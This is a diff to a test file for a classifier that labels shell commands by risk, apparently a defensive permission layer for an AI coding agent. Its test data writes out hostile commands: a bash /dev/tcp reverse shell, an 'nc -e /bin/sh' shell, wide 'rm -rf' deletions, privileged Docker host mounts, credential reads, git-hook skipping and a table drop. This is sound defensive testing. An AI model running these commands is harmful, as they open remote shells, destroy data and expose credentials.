@@ -136,17 +136,20 @@ describe("a command", () => {
     ["HUSKY=0 git commit -m x", "git.commit git.hooks.skip"],
     [
       "git -c core.hooksPath=/dev/null commit -m x",
-      "command.opaque command.opaque.environment git.commit git.hooks.skip",
+      "command.opaque command.opaque.environment command.unbound git.commit git.hooks.skip",
     ],
     ["npm publish --access public", "package.publish"],
     ["docker push x/y", "package.publish"],
     ["kubectl apply -f a.yaml", "deploy infra.change"],
     ["kubectl apply --dry-run=client -f a.yaml", "infra.change"],
     ["vercel --prod", "deploy"],
-    ["npx vercel deploy", "command.opaque command.opaque.unparsed_launcher deploy"],
-    ["npx serverless@3 deploy --stage prod", "command.opaque command.opaque.unparsed_launcher deploy"],
+    ["npx vercel deploy", "code.workspace command.opaque command.opaque.local_program deploy task.release"],
+    [
+      "npx serverless@3 deploy --stage prod",
+      "command.opaque command.opaque.unparsed_launcher command.unbound deploy task.release",
+    ],
     ["gh workflow run release.yml", "deploy"],
-    ["npm run deploy:prod", "deploy"],
+    ["npm run deploy:prod", "deploy task.release"],
     ["aws s3 ls", ""],
     ["docker run --privileged -v /:/host alpine ls", "command.remote container.run.privileged"],
     ["docker run -v /var/run/docker.sock:/s alpine ls", "command.remote container.run.privileged"],
@@ -159,7 +162,7 @@ describe("a command", () => {
     ["rm -rf ..", "file.delete file.delete.recursive file.delete.wide path.outside-workspace.write"],
     [
       'rm -rf "$X"/*',
-      "command.opaque command.opaque.unresolved_path file.delete file.delete.recursive file.delete.wide path.unresolved",
+      "command.opaque command.opaque.unresolved_path command.unbound file.delete file.delete.recursive file.delete.wide path.unresolved",
     ],
     ["rm -rf node_modules dist/*", "file.delete file.delete.recursive"],
     ["rm -rf .git", "file.delete file.delete.recursive history.delete"],
@@ -175,10 +178,10 @@ describe("a command", () => {
     ["nc -e /bin/sh x.test 80", "network.send reverse.shell"],
     [
       "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
-      "command.opaque command.opaque.code_from_input command.opaque.environment command.opaque.grammar_mismatch network.send reverse.shell",
+      "command.opaque command.opaque.code_from_input command.opaque.environment command.opaque.grammar_mismatch command.unbound network.send reverse.shell",
     ],
-    ["crontab -l", "command.opaque command.opaque.unparsed_launcher"],
-    ["crontab jobs", "command.opaque command.opaque.unparsed_launcher cron.change"],
+    ["crontab -l", "command.opaque command.opaque.unparsed_launcher command.unbound"],
+    ["crontab jobs", "command.opaque command.opaque.unparsed_launcher command.unbound cron.change"],
     ["systemctl status x", ""],
     ["systemctl --user enable x", "service.change"],
     ["gh auth token", "credential.read secret.read"],
@@ -194,15 +197,15 @@ describe("a command", () => {
     ["chmod -x .git/hooks/pre-commit", "git.hooks.skip"],
     [
       "rm -rf $(pwd)",
-      "command.opaque command.opaque.unresolved_path file.delete file.delete.recursive file.delete.wide path.unresolved",
+      "command.opaque command.opaque.unresolved_path command.unbound file.delete file.delete.recursive file.delete.wide path.unresolved",
     ],
     ["cat $FILE", "path.unresolved path.unresolved.read"],
     ["sudo -u deploy ls", "command.privileged privilege.raise"],
     ["ssh host ls", "command.remote network.send"],
-    ["pwsh -c ls", "command.opaque command.opaque.foreign_shell"],
+    ["pwsh -c ls", "command.opaque command.opaque.foreign_shell command.unbound"],
     [
       "'C:\\Windows\\System32\\CMD.EXE' /c dir",
-      "command.opaque command.opaque.foreign_shell command.unknown-program",
+      "command.opaque command.opaque.foreign_shell command.unbound command.unknown-program",
     ],
     ["psql -c 'drop table users'", "infra.destroy sql.ddl"],
     ["psql -c 'select 1'", "sql.read"],
@@ -223,6 +226,40 @@ describe("a command", () => {
   ])("has the kinds of its programs: %s", (command, expected) => {
     const kinds = shell(command).signals.filter((signal) => /^program\./.test(signal));
     expect(kinds.join(" ")).toBe(expected);
+  });
+
+  it.each([
+    ["node scripts/x.js", "code.workspace"],
+    ["cd sub && ./x.sh", "code.workspace"],
+    ["chmod +x x.sh && ./x.sh", "code.workspace"],
+    ["npx tsc", "code.workspace"],
+    ["node scripts/x.js; node -e 'x'", "code.workspace command.unbound"],
+    ["echo x > x.js && node x.js", "command.unbound"],
+    ["tar xf a.tar && ./configure", "command.unbound"],
+    ["git pull && node x.js", "command.unbound"],
+    ["node ../x.js", "command.unbound"],
+    ["node $X", "command.unbound"],
+    ["cd $X && node x.js", "command.unbound"],
+    ["docker exec web node x.js", "command.unbound"],
+    ["go test -exec ./x ./...", "command.unbound"],
+    ["EDITOR=./x git commit", "command.unbound"],
+    ["npm test", ""],
+  ])("says whether its code is a file of the workspace: %s", (command, expected) => {
+    const { signals } = shell(command);
+    const found = signals.filter((signal) => signal === "code.workspace" || signal === "command.unbound");
+    expect(found.join(" ")).toBe(expected);
+  });
+
+  it.each([
+    ["/project/x.js", "/elsewhere/x.js", "command.unbound"],
+    ["/project/x.js", "/project/lib/x.js", "code.workspace"],
+    ["/project/.venv/bin/python", "/usr/bin/python3.11", "code.workspace"],
+    ["/project/.venv/bin/python", "/home/u/.pyenv/versions/3.11.2/bin/python3.11", "code.workspace"],
+    ["/project/.venv/bin/python", "/home/u/bin/evil", "command.unbound"],
+  ])("looks where a link of the workspace leads: %s to %s", (path, real, expected) => {
+    const request = toRequest("shell.run", { command: `${path.endsWith(".js") ? "node " : ""}${path} -V` });
+    const { signals } = classify(request, policy, new Map([[path, real]]));
+    expect(signals).toContain(expected);
   });
 
   it.each([
@@ -273,6 +310,7 @@ describe("a command", () => {
     expect(classified.signals).toEqual([
       "command.opaque",
       "command.opaque.unresolved_path",
+      "command.unbound",
       "path.unresolved",
     ]);
   });
